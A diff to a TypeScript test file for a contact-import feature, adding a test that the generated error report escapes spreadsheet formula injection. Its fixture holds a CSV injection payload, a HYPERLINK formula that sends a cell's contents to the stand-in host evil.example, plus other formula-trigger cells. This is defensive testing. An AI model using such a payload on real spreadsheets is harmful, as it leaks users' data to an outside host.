@@ -1,6 +1,7 @@
 import fs from 'node:fs';
 import path from 'node:path';
 import iconv from 'iconv-lite';
+import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import { sql } from 'kysely';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
@@ -190,6 +191,18 @@ describe('import', () => {
     // The file itself is not kept once imported; the report is.
     expect(fs.existsSync(path.join(t.dataDir, 'imports', String(done.id)))).toBe(false);
     expect((await marketer.post(`${base()}/imports/${done.id}/start`, { mapping: done.mapping, consentBasis: 'written' })).statusCode).toBe(409);
+  });
+
+  it('writes the report so that no cell from the file runs as a formula in the spreadsheet that opens it', async () => {
+    const link = '=HYPERLINK("http://evil.example/?"&A2,"상세 보기")';
+    const rows = [['이름', '연락처', '=메모'], [link, '010-12', '@SUM(1+1)'], ['+가', '-1', '-2+3']];
+    const done = await importFile(marketer, csv(rows), '명단.csv');
+    expect(done).toMatchObject({ status: 'done', imported: 0, failed: 2, hasErrorReport: true });
+    const report = parse((await marketer.get(`${base()}/imports/${done.id}/errors`)).rawPayload.toString('utf8'), { bom: true, relax_column_count: true }) as string[][];
+    expect(report[0]).toEqual(['행 번호', '열', '사유', '이름', '연락처', "'=메모"]);
+    expect(report.slice(1).map((r) => r.slice(3))).toContainEqual([`'${link}`, '010-12', "'@SUM(1+1)"]);
+    expect(report.slice(1).map((r) => r.slice(3))).toContainEqual(["'+가", "'-1", "'-2+3"]);
+    expect(report.flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
   });
 
   it('reads CSV written in CP949 (EUC-KR), as Korean Excel saves it', async () => {
